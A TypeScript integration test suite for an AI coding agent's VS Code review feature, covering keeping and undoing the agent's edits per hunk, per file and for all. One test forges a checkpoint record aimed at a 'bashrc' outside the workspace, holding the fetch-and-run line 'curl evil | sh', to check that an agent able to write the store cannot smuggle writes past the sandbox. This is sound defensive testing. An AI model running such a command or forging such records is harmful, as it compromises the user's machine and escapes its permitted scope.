// Reviewing a run's changes as a user does: the bundled agent edits three files and creates one
// (through bash, so the file events find it) in one run; the Changes view lists the four; the user
// adds a line of their own to one file, undoes one of the agent's hunks there from its lens (the
// user's line stays), undoes a whole file from its row, and keeps the rest with Keep All. The
// files on disk are then checked byte for byte. Then: the keys (next change, undo / keep the hunk
// at the cursor), a file a command rewrote in place (no before: Keep only), Undo All, and the
// diff editor's own revert arrow.
import * as assert from "node:assert/strict";
import * as fs from "node:fs";
import * as os from "node:os";
import * as path from "node:path";
import * as vscode from "vscode";
import { recordCaptured } from "../../../shared/node/checkpoint-store";
import { eventually } from "./agent-fixture";
import { openChat } from "./chat-support";
import { useBundledHost, type HostFixture } from "./host-fixture";
import { pressChord } from "./keys";
import { agentRun, edit, modified, openRowDiff, pane, reviewFolder, row, text, writeWatched } from "./review-support";
import { requireUi, ui } from "./ui";

describe("review: Keep and Undo the changes of a run, per hunk, per file and for all", function () {
  this.timeout(150_000);
  let host: HostFixture;
  let dir: string;
  const file = (name: string) => path.join(dir, name);
  const read = (name: string) => fs.readFileSync(file(name), "utf8");
  const original = {
    a: text("alpha 1", "alpha 2", "alpha 3", "alpha 4", "alpha 5", "alpha 6", "alpha 7", "alpha 8"),
    b: text("beta 1", "beta 2", "beta 3"),
    c: text("gamma 1", "gamma 2"),
    d: text("delta 1", "delta 2", "delta 3", "delta 4", "delta 5", "delta 6"),
    e: text("epsilon 1", "epsilon 2"),
  };

  before(async function () {
    requireUi(this);
    // No permission questions in the way: this suite is about what happens after the tools ran.
    await vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", [], vscode.ConfigurationTarget.Global);
    host = await useBundledHost();
    dir = path.join(vscode.workspace.workspaceFolders![0].uri.fsPath, reviewFolder);
    fs.rmSync(dir, { recursive: true, force: true });
    fs.mkdirSync(dir);
    // The files are there before any run: their file events are in.
    await writeWatched(dir, Object.fromEntries(Object.entries(original).map(([name, content]) => [`${name}.txt`, content])));
    // Earlier suites' agents changed files too: start from nothing to review.
    await vscode.commands.executeCommand("pi.review.keepAll");
    const left = host.api.review.files().map((f) => `${f.path} (${[...f.owners].join(", ")})`);
    assert.deepEqual(left, [], `the side bar's Keep All left ${left.length} (sessions ${host.api.sessions.all.map((s) => s.id).join(", ")})`);
    await openChat();
  });
  beforeEach(async () => {
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
    await vscode.commands.executeCommand("pi.review.keepAll");
  });
  afterEach(async function () {
    if (this.currentTest?.state === "failed") await ui.screenshot(`failed-${this.currentTest.title.slice(0, 40)}`);
  });
  after(async () => {
    await vscode.commands.executeCommand("workbench.action.closeAllEditors");
    await vscode.commands.executeCommand("pi.review.keepAll");
    await host?.dispose();
    await vscode.workspace.getConfiguration("pi").update("permissions.confirmTools", undefined, vscode.ConfigurationTarget.Global);
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  it("lists the four files, undoes one hunk (the user's own line stays), one file, keeps the rest", async () => {
    await agentRun(host, "review suite: change the files", [
      edit("a.txt", [["alpha 2\n", "ALPHA TWO\n"], ["alpha 7\n", "ALPHA SEVEN\nalpha 7.5\n"]]),
      edit("b.txt", [["beta 2", "BETA TWO"]]),
      edit("c.txt", [["gamma 2", "GAMMA TWO"]]),
      { name: "bash", arguments: { command: "printf 'made by a command\\n' > review-test/new.txt" } },
    ]);
    await eventually("the run to settle", async () => host.api.supervisor.status === "idle" && !(await host.state()).isStreaming);
    const agentA = text("alpha 1", "ALPHA TWO", "alpha 3", "alpha 4", "alpha 5", "alpha 6", "ALPHA SEVEN", "alpha 7.5", "alpha 8");
    assert.equal(read("a.txt"), agentA);
    assert.equal(read("new.txt"), "made by a command\n");

    // The Changes view shows up with the four files and the totals.
    await eventually("four files to review", () => host.api.review.summary().files === 4 || undefined, 20_000);
    await vscode.commands.executeCommand("pi.changes.focus");
    for (const name of ["a.txt", "b.txt", "c.txt", "new.txt"]) await ui.waitForSelector(row(name));
    assert.match(await ui.text(`${pane} .pane-header`), /4 files changed/);
    assert.match(await ui.text(row("a.txt")), /\+3 −2/);
    assert.match(await ui.text(row("new.txt")), /\+1 −0/);

    // A click on a.txt opens its diff: before ↔ now, with Keep / Undo above each hunk.
    await openRowDiff("a.txt");
    await ui.waitForSelector(`${modified} .codelens-decoration a:has-text("Undo") >> nth=1`);
    await ui.screenshot("review-changes");

    // The user adds a line of their own at the top and saves.
    await ui.click(`${modified} .view-lines`);
    // The new line first, then the words: an Enter after typing could take a word suggestion that
    // showed after an Escape (it did: "user notealpha").
    await ui.pressKey("Control+Home");
    await ui.pressKey("Enter");
    await ui.pressKey("ArrowUp");
    await ui.typeText("user note");
    await ui.pressKey("Escape");
    await ui.pressKey("Control+S");
    await eventually("the user's line on disk", () => read("a.txt").startsWith("user note\n") || undefined);

    // Undo of the second hunk (its lens, moved down a line by the user's) changes only that hunk.
    // The lenses are drawn anew after the save; a click on a lens being replaced is lost, so click
    // again while the file is unchanged (once undone, there is no second Undo lens to hit).
    const beforeHunkUndo = read("a.txt");
    const afterHunkUndo = text("user note", "alpha 1", "ALPHA TWO", "alpha 3", "alpha 4", "alpha 5", "alpha 6", "alpha 7", "alpha 8");
    await eventually("the hunk undone on disk", async () => {
      const now = read("a.txt");
      if (now === afterHunkUndo) return true;
      if (now !== beforeHunkUndo) throw new Error(`a.txt became ${JSON.stringify(now)}`);
      await ui.click(`${modified} .codelens-decoration a:has-text("Undo") >> nth=1`).catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      return read("a.txt") === afterHunkUndo || undefined;
    });
    await eventually("a.txt to count one hunk", async () => /\+1 −1/.test(await ui.text(row("a.txt"))) || undefined);

    // Undo of a whole file from its row.
    await ui.hover(row("b.txt"));
    await ui.click(`${row("b.txt")} .action-label[aria-label^="Undo Changes in File"]`);
    await eventually("b.txt restored", () => read("b.txt") === original.b || undefined);
    await ui.waitForSelector(row("b.txt"), "detached");

    // Keep All from the view's title: the rest stays as the agent left it, and the view empties.
    await ui.hover(`${pane} .pane-header`);
    await ui.click(`${pane} .pane-header .action-label[aria-label^="Keep All Changes"]`);
    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
    await ui.waitForSelector(pane, "hidden");

    assert.equal(read("a.txt"), afterHunkUndo);
    assert.equal(read("b.txt"), original.b);
    assert.equal(read("c.txt"), text("gamma 1", "GAMMA TWO"));
    assert.equal(read("new.txt"), "made by a command\n");
  });

  it("goes through the hunks with the keys: Next Change, then Undo Change and Keep Change at the cursor", async () => {
    await agentRun(host, "review suite: change d", [edit("d.txt", [["delta 2\n", "DELTA TWO\n"], ["delta 5\n", "DELTA FIVE\n"]])]);
    await eventually("c.txt to review", () => host.api.review.files().some((f) => f.path === file("d.txt")) || undefined, 20_000);
    await ui.waitForSelector(row("d.txt"));

    // From the view, Ctrl+K ] opens the first file's diff at its first hunk.
    await vscode.commands.executeCommand("pi.changes.focus");
    await pressChord("Control+k", "]");
    await ui.waitForSelector(`${modified} .codelens-decoration a:has-text("Undo") >> nth=1`);
    await eventually("the cursor on the first hunk", () => vscode.window.activeTextEditor?.selection.active.line === 1 || undefined);
    await pressChord("Control+k", "Control+z");
    await eventually("the first hunk undone", () => read("d.txt") === text("delta 1", "delta 2", "delta 3", "delta 4", "DELTA FIVE", "delta 6") || undefined);
    await pressChord("Control+k", "]");
    await eventually("the cursor on the other hunk", () => vscode.window.activeTextEditor?.selection.active.line === 4 || undefined);
    await pressChord("Control+k", "Control+y");
    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
    assert.equal(read("d.txt"), text("delta 1", "delta 2", "delta 3", "delta 4", "DELTA FIVE", "delta 6"));
  });

  it("a file a command rewrites in place (sed -i) is listed without a before: it can be kept, never undone", async () => {
    await agentRun(host, "review suite: sed e", [{ name: "bash", arguments: { command: "sed -i 's/epsilon 1/EPSILON ONE/' review-test/e.txt" } }]);
    await eventually("e.txt to review", () => host.api.review.files().some((f) => f.path === file("e.txt")) || undefined, 20_000);
    await ui.waitForSelector(row("e.txt"));
    assert.match(await ui.text(row("e.txt")), /not recorded/);
    // The row's actions show on hover only, and the tree may draw the row anew (losing the hover)
    // while the review settles: hover again until they show.
    const actions = await eventually("e.txt's actions on hover", async () => {
      await ui.hover(row("e.txt")).catch(() => undefined);
      const shown = await ui.waitForSelector(`${row("e.txt")} .action-label[aria-label^="Keep Changes in File"]`, "visible", 2_000).then(() => true, () => false);
      return shown ? await ui.html(`${row("e.txt")} .actions`) : undefined;
    }, 30_000);
    assert.equal(actions.includes("Undo Changes in File"), false, "no Undo without a before");
    // Hover and click again if the row was drawn anew in between (its actions show on hover only).
    await eventually("e.txt kept from its row", async () => {
      if (host.api.review.summary().files === 0) return true;
      await ui.hover(row("e.txt")).catch(() => undefined);
      await ui.click(`${row("e.txt")} .action-label[aria-label^="Keep Changes in File"]`).catch(() => undefined);
      return host.api.review.summary().files === 0 || undefined;
    }, 30_000);
    assert.equal(read("e.txt"), text("EPSILON ONE", "epsilon 2"));
  });

  it("lists none of the sandbox's mount points while a command runs (the empty .envrc, .vscode/, … bwrap makes for missing protected names)", async () => {
    const count = host.llm.requests.length;
    const root = vscode.workspace.workspaceFolders![0].uri.fsPath;
    host.llm.enqueue({ toolCalls: [{ name: "bash", arguments: { command: "echo made > review-test/during.txt && sleep 4" } }] }, { text: "done" });
    await vscode.commands.executeCommand("pi.sendPrompt", "review suite: a command that takes a while");
    // The mount points are made before the command starts, so their events come before this file's.
    await eventually("during.txt to review", () => host.api.review.files().some((f) => f.path === file("during.txt")) || undefined, 20_000);
    const stubsShown = () => host.api.review.files().filter((f) => path.dirname(f.path) === root).map((f) => path.basename(f.path));
    assert.ok(fs.existsSync(path.join(root, ".envrc")), "the sandbox's mount point is there while the command runs");
    assert.deepEqual(stubsShown(), [], "while the command runs");
    await host.llm.waitForRequests(count + 2);
    await host.settled();
    assert.deepEqual(stubsShown(), [], "after the command");
    assert.deepEqual(host.api.review.files().map((f) => path.basename(f.path)), ["during.txt"]);
    await vscode.commands.executeCommand("pi.review.keepAll");
    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
  });

  it("Undo All from the view's title puts every file back: edited ones as they were, a created one deleted", async () => {
    await agentRun(host, "review suite: undo all", [edit("c.txt", [["gamma 1", "GAMMA ONE"]]), { name: "write", arguments: { path: "review-test/made.txt", content: "written by the agent\n" } }]);
    await eventually("two files to review", () => host.api.review.summary().files === 2 || undefined, 20_000);
    const before = read("c.txt").replace("GAMMA ONE", "gamma 1");
    await ui.waitForSelector(row("made.txt"));
    await ui.hover(`${pane} .pane-header`);
    await ui.click(`${pane} .pane-header .action-label[aria-label^="Undo All Changes"]`);
    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
    assert.equal(read("c.txt"), before);
    assert.equal(fs.existsSync(file("made.txt")), false);

  });

  it("takes no checkpoint record of a file outside the workspace in (the store is writable by agents): Undo All leaves it alone", async () => {
    // A forged record, as a pi sandboxed as a whole could write into the store it records to.
    const outside = fs.mkdtempSync(path.join(os.tmpdir(), "pi-review-outside-"));
    const victim = path.join(outside, "bashrc");
    fs.writeFileSync(victim, "the user's own\n");
    const store = host.api.checkpointStore();
    assert.ok(store, "checkpoints are on");
    const { sessionId } = await host.state();
    recordCaptured(store, sessionId, "forged", victim, { content: Buffer.from("curl evil | sh\n") }, Date.now() + 1_000);
    await agentRun(host, "review suite: a forged record", [{ name: "write", arguments: { path: "review-test/forged-run.txt", content: "the agent's own\n" } }]);
    await eventually("the agent's file to review", () => host.api.review.files().some((f) => f.path.endsWith("forged-run.txt")) || undefined, 20_000);
    await eventually("the run to settle", async () => host.api.supervisor.status === "idle" || undefined);
    assert.deepEqual(host.api.review.files().filter((f) => f.path.startsWith(outside)).map((f) => f.path), [], "the forged record's file is not in the review");
    await vscode.commands.executeCommand("pi.review.undoAll");
    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
    assert.equal(fs.readFileSync(victim, "utf8"), "the user's own\n", "Undo All did not write the forged content outside the workspace");
    assert.equal(fs.existsSync(file("forged-run.txt")), false, "the agent's own file was undone");
    fs.rmSync(outside, { recursive: true, force: true });
  });

  it("shows the changes in the chat above the box: Review opens the first diff, Keep All there keeps them", async () => {
    await agentRun(host, "review suite: the chat's line", [edit("c.txt", [["gamma 1", "GAMMA UNO"]])]);
    await eventually("c.txt to review", () => host.api.review.summary().files === 1 || undefined, 20_000);
    await vscode.commands.executeCommand("pi.focusChat");
    const line = await eventually("the changes line in the chat", async () => {
      const shown = await ui.webviewText("Chat", "#changes").catch(() => "");
      return /1 file changed/.test(shown) && /\+1\b/.test(shown) && /−1\b/.test(shown) ? shown : undefined;
    });
    assert.match(line, /1 file changed\s+\+1\s+−1/);
    // The view says the same: c.txt alone (no row left from an earlier run's files).
    await vscode.commands.executeCommand("pi.changes.focus");
    await ui.waitForSelector(row("c.txt"));
    await eventually("the view's rows", async () => (await ui.text(`${pane} .monaco-list-rows`)).split("\n").filter((l) => /\.txt/.test(l)).length === 1 || undefined);
    await vscode.commands.executeCommand("pi.focusChat");
    await ui.screenshot("review-chat-line");
    await ui.clickInWebview("Chat", "#changes [data-action='changes-review']");
    await eventually("c.txt's diff from the chat", () => vscode.window.tabGroups.activeTabGroup.activeTab?.label === "c.txt (Pi: before ↔ now)" || undefined);
    await ui.clickInWebview("Chat", "#changes [data-action='changes-keepAll']");
    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined);
    await eventually("the line gone from the chat", async () => (await ui.webviewProperties("Chat", "#changes", ["hidden"])).hidden === true || undefined);
    assert.match(read("c.txt"), /^GAMMA UNO\n/, "kept: the agent's version stays");
  });

  it("closes a file's review diff once nothing is left to review in it: Keep of the last hunk, Undo of the last hunk", async () => {
    // Never a wrong diff: the review's left side of a file that left the review was empty (the whole file shown as added).
    const reviewTabs = () => vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter((t) => t.input instanceof vscode.TabInputTextDiff && t.input.original.scheme === "pi-review");
    // Both sides read at once, and only while a diff editor shows: the tab API can list a tab a
    // moment after its editor went, and a side read after the editor closed is no side at all.
    const wholeFileAdded = async () => {
      const diff = await ui.html(".monaco-diff-editor", 250).catch(() => "");
      return diff.includes("line-insert") && !diff.includes("line-delete");
    };
    for (const [name, lens] of [["b.txt", "Keep"], ["c.txt", "Undo"]] as const) {
      const line = read(name).split("\n")[0];
      await agentRun(host, `review suite: the last hunk of ${name}`, [edit(name, [[line, `${line} LAST`]])]);
      await eventually(`${name} to review`, () => host.api.review.files().some((f) => f.path === file(name) && f.before !== undefined) || undefined, 20_000);
      await vscode.commands.executeCommand("pi.review.openDiff", vscode.Uri.file(file(name)));
      await eventually(`${name}'s diff`, () => vscode.window.tabGroups.activeTabGroup.activeTab?.label === `${name} (Pi: before ↔ now)` || undefined);
      await ui.click(`${modified} .codelens-decoration a:has-text("${lens}")`);
      await eventually(`${name} out of the review`, () => !host.api.review.files().some((f) => f.path === file(name)) || undefined);
      await eventually(`${name}'s review diff closed`, async () => {
        const tabs = reviewTabs();
        assert.equal(tabs.length > 0 && (await wholeFileAdded()), false, `a whole-file-added diff of ${name} is shown`);
        return tabs.length === 0 || undefined;
      }, 5_000);
      await ui.screenshot(`review-last-${lens.toLowerCase()}`);
    }
  });

  it("one diff per change: the chat card's Open diff in editor opens the review's diff (Keep / Undo) while the change is under review", async () => {
    await agentRun(host, "review suite: the card's diff", [edit("d.txt", [["delta 3", "DELTA THREE FROM THE CARD"]])]);
    await eventually("d.txt to review", () => host.api.review.files().some((f) => f.path === file("d.txt") && f.before !== undefined) || undefined, 20_000);
    await vscode.commands.executeCommand("pi.focusChat");
    const card = ".item-tool[data-tool='edit']:has-text('DELTA THREE FROM THE CARD') [data-action='open-diff']";
    await ui.clickInWebview("Chat", card);
    await eventually("the review's diff of d.txt", () => vscode.window.tabGroups.activeTabGroup.activeTab?.label === "d.txt (Pi: before ↔ now)" || undefined);
    await ui.waitForSelector(`${modified} .codelens-decoration a:has-text("Keep")`);
    // At the card's own change.
    await eventually("the cursor on the card's change", () => vscode.window.activeTextEditor?.document.lineAt(vscode.window.activeTextEditor.selection.active.line).text.startsWith("DELTA THREE") || undefined);
    assert.equal(vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter((t) => t.label.startsWith("d.txt (Pi:")).length, 1, "one diff of the change");
    await ui.screenshot("review-card-diff");
    // Kept: the card shows what the call did, titled as such (no Keep / Undo left to offer).
    await vscode.commands.executeCommand("pi.review.keepAll");
    await vscode.commands.executeCommand("pi.focusChat");
    await ui.clickInWebview("Chat", card);
    await eventually("the call's own diff", () => vscode.window.tabGroups.activeTabGroup.activeTab?.label === "d.txt (Pi: edit)" || undefined);
  });

  it("the diff editor's own revert arrow on a hunk counts as its Undo", async () => {
    const beforeRun = read("e.txt");
    await agentRun(host, "review suite: revert arrow", [edit("e.txt", [["epsilon 2", "EPSILON TWO"]])]);
    await eventually("e.txt to review", () => host.api.review.files().some((f) => f.path === file("e.txt") && f.before !== undefined) || undefined, 20_000);
    await openRowDiff("e.txt");
    await ui.waitForSelector(`${modified} .codelens-decoration a:has-text("Undo")`);
    // The arrow shows while the pointer is over the changed line; a click while the diff is drawn
    // anew is lost, so hover and click again while the buffer still holds the agent's line.
    const document = () => vscode.workspace.textDocuments.find((d) => d.uri.scheme === "file" && d.uri.fsPath === file("e.txt"));
    await eventually("e.txt reverted in its buffer", async () => {
      if (document()?.getText() === beforeRun) return true;
      await ui.hover(`${modified} .view-line:has-text("EPSILON TWO")`).catch(() => undefined);
      await ui.click(".monaco-diff-editor .codicon-arrow-right").catch(() => undefined);
      return document()?.getText() === beforeRun || undefined;
    });
    await eventually("nothing left to review", () => host.api.review.summary().files === 0 || undefined, 5_000).catch((error: unknown) => {
      throw new Error(`${String(error)}; review: ${JSON.stringify(host.api.review.files().map((f) => ({ path: f.path, before: String(f.before), agent: String(f.agent) })))}; buffer ${JSON.stringify(document()?.getText())}`);
    });
    // VS Code reverted the buffer (unsaved): it holds the file as it was before the run.
    assert.equal(document()?.getText(), beforeRun);
    await document()?.save();
    assert.equal(read("e.txt"), beforeRun);
  });
});
